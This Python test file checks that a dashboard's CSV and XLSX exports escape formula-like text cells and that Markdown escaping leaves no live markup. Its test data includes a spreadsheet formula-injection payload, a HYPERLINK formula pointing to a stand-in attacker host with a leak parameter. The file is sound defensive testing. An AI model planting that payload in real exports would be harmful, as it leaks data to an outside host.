"""Text from data is text: never a spreadsheet formula in a download, never Markdown on a page."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from types import SimpleNamespace
from xml.etree import ElementTree

import polars as pl
from hypothesis import given
from hypothesis import strategies as st

from dashboard import downloads
from werkpad.config import CHECKOUT_DIR
from werkpad.rendering import safe
from werkpad.rendering.i18n import Translator

HOSTILE = '=HYPERLINK("http://attacker.example/?leak=1","click")'
NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def xlsx_cells(data: bytes, sheet: int = 1) -> dict[str, tuple[str, object]]:
    """Each cell of a sheet as (kind, value): 's' string, 'n' number, 'f' formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        strings = [
            "".join(t.text or "" for t in si.iter(f"{{{NS['x']}}}t"))
            for si in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
        ]
        root = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{sheet}.xml"))
    cells = {}
    for c in root.iterfind(".//x:c", NS):
        value = c.findtext("x:v", default=None, namespaces=NS)
        if c.find("x:f", NS) is not None:
            cells[c.get("r")] = ("f", c.findtext("x:f", namespaces=NS))
        elif c.get("t") == "s":
            cells[c.get("r")] = ("s", strings[int(value)])
        elif value is not None:
            cells[c.get("r")] = ("n", float(value))
    return cells


def _frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "file_name": [HOSTILE, "+1", "@SUM(A1)", "\tx", "plain", "-x", None],
            "change": [-1, 2, -3, 0, 5, -6, 7],
        }
    )


def _read_csv(body: bytes) -> list[list[str]]:
    """A Dutch CSV as Excel in a Belgian locale splits it."""
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_text_cells_are_never_formulas_and_numbers_stay_numbers():
    rows = _read_csv(safe.csv_bytes(_frame(), "=caption", "nl"))
    assert [r[0] for r in rows[2:8]] == ["'" + HOSTILE, "'+1", "'@SUM(A1)", "'\tx"] + [
        "plain",
        "'-x",
    ]
    assert [int(r[1]) for r in rows[2:]] == [-1, 2, -3, 0, 5, -6, 7]
    assert rows[0] == ["# =caption"]


def test_xlsx_text_cells_are_strings_and_numbers_stay_numbers():
    cells = xlsx_cells(safe.xlsx_bytes(_frame(), "=caption", "nl"))
    assert cells["A1"] == ("s", "'=caption")
    assert not [c for c in cells.values() if c[0] == "f"]  # no formula anywhere
    assert ("s", "'" + HOSTILE) in cells.values()
    assert ("n", -1) in cells.values() and ("n", -6) in cells.values()


@given(st.text(max_size=20))
def test_every_text_cell_is_safe(text):
    cell = safe.spreadsheet_safe(pl.DataFrame({"t": [text]}))["t"][0]
    assert not cell.startswith(safe.FORMULA_START)
    assert cell in (text, "'" + text)


@given(st.text(max_size=30))
def test_markdown_literal_has_no_unescaped_markdown(text):
    shown = safe.markdown_literal(text)
    assert "\n" not in shown and "\r" not in shown
    unescaped = shown.replace("\\\\", "")
    for mark in "[]()<>*_`!:$~|#":
        assert all(unescaped[i - 1] == "\\" for i, c in enumerate(unescaped) if c == mark)


def test_dashboard_downloads_are_safe():
    ctx = SimpleNamespace(
        caption="Provincie: Limburg",
        t=Translator("nl"),
        data_date=dt.date(2023, 12, 31),
        threshold=None,
        lineage="",
    )
    rows = _read_csv(downloads.csv_bytes(_frame(), ctx))
    assert rows[2] == ["'" + HOSTILE, "-1"]
    assert rows[0] == ["# Filters: Provincie: Limburg. Gegevens tot 31/12/2023."]
    cells = xlsx_cells(downloads.xlsx_bytes(_frame(), ctx))
    assert ("s", "'" + HOSTILE) in cells.values() and ("n", -1) in cells.values()


def test_every_table_file_is_written_through_the_one_helper():
    # the sample generator writes partner-style extracts on purpose; nothing else may
    writers = [
        path
        for package in ("werkpad", "pipelines", "dashboard")
        for path in (CHECKOUT_DIR / package).rglob("*.py")
        if path.name != "safe.py"
        for text in [path.read_text()]
        if ".write_csv(" in text or ".write_excel(" in text or "Workbook(" in text
    ]
    assert writers == []
